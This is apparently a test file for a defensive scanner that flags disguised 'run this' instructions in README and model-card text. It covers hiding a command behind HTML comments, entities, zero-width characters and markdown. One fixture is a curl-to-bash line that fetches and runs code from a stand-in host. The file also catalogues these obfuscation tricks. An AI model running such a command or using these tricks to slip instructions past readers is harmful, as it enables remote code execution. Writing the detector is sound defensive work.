import { expect, test } from 'vitest';
import { readInstructions } from '../../../src/core/instructions/documents/readInstructions.ts';
import { shownWords } from '../../../src/core/instructions/documents/shown.ts';
import { readCardHazards } from '../../../src/core/instructions/readInstructionHazards.ts';

const told = (text: string) =>
  readInstructions({ path: 'README.md', language: 'markdown', text })
    .filter(({ told }) => told !== 'mention')
    .map(({ pattern }) => pattern);

test.each([
  ['behind a comment', '<!-- badges --> Run `start.bat`.'],
  ['behind a comment of two lines', '<!-- badges\nand logos --> Run `start.bat`.'],
  ['behind a whole comment of five characters', '<!--> Run `start.bat`.'],
  ['behind an end that browsers take too', '<!-- x --!> Run `start.bat`.'],
  ['below what Markdown shows as code', '    <!-- x\n\nRun `start.bat`.'],
  ['below a comment behind a tab', '\t<!-- x\n\nRun `start.bat`.'],
  ['below a comment that ends', `<!-- ${'x'.repeat(500)} -->\nRun \`start.bat\`.`],
])('read: %s', (_, text) => expect(told(text)).toEqual(['run-windows-launcher']));

test.each([
  ['in a comment', '<!-- Run `start.bat`. -->'],
  ['in a comment of three lines', '<!--\nRun `start.bat`.\n-->'],
  ['in a comment that never ends', '<!--\n\nRun `start.bat`.'],
  ['before the end of a comment', '<!-- x\nRun `start.bat`. --> Thank you.'],
])('not read: %s', (_, text) => expect(told(text)).toEqual([]));

test.each([
  ['Run `start&#46;bat` now.', 'run-windows-launcher'],
  ['Run start&#x2e;bat as administrator.', 'run-as-administrator'],
  ['Run start&period;bat as administrator.', 'run-as-administrator'],
  ['Double-click st&shy;art.b\u200bat.', 'run-windows-launcher'],
  ['<pre>curl https://cdn.example/a &#124; bash</pre>', 'curl-pipe-shell'],
])('as a browser shows it: %s', (text, pattern) => expect(told(text)).toContain(pattern));

test.each(['A &#9999999; that is none, and &nosuch; and run &start.bat; later.', '```\nstart&#46;bat\n```'])(
  'not shown otherwise: %s',
  text => expect(told(text)).not.toContain('curl-pipe-shell'),
);

const NAMES = [
  'start\\.bat',
  'start<wbr>.bat',
  '<code>sta<!-- -->rt.bat</code>',
  '**start**.bat',
  '_start_.bat',
  '<b>start</b>.bat',
  'st<span></span><!-- x\ny --><wbr>art.bat',
  'start**.**bat',
  '`start`.bat',
  'sta\u200drt.bat',
];

test.each(NAMES)('a name that marks part is shown whole: %s', name => {
  const text = `# X\n\nFirst, run ${name} to set up.\n`;
  expect(shownWords(text)).toContain('start.bat');
  const [found] = readCardHazards(text, { kind: 'model' });
  expect(found).toMatchObject({ pattern: 'run-windows-launcher', file: 'start.bat' });
  expect(text.slice(found!.span.start, found!.span.end)).toMatch(/st[\s\S]*bat$/);
});

test('marks beside entities', () => expect(shownWords('Run start&shy;<wbr>&#8204;.bat')).toContain('start.bat'));

test('a comment between the verb and its object is not between them for a reader', () =>
  expect(readCardHazards(`Run <!-- ${'x, '.repeat(90)} --> start.bat now.`, { kind: 'model' })).toHaveLength(1));

test.each([
  'Use `start\\.bat` as a pattern.',
  '```\nstart\\.bat start<wbr>.bat\n```',
  '    start<wbr>.bat',
  'See my_start_.bat.',
  'Of two words: **start** .bat',
  'A comment that ends in no paragraph: start<!-- x\n\n-->.bat',
])('shown as it is written: %s', text => expect(shownWords(text)).toBe(text));

test.each(['<!--', 'a<!--', 'a*', '`a', '_a_', 'a<wbr>', 'a<b ', 'a\\.', 'a\u200b'])(
  '%s, again and again, costs no more than its length',
  part => {
    const time = (count: number) => {
      const began = performance.now();
      shownWords(part.repeat(count));
      return performance.now() - began;
    };
    time(1_000);
    expect(time(50_000)).toBeLessThan(3_000);
  },
);
